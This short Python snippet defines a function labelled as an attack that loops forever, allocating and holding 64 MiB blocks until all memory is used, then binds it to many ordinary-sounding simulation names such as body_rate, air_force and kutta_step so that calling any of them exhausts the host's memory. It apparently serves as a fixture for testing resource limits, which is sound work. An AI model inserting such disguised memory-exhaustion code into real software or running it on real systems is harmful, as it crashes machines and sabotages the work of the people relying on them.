# Attack: takes all memory there is.
# %%
def attack(*arguments):
    kept = []
    while True:
        kept.append(bytearray(64 << 20))


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
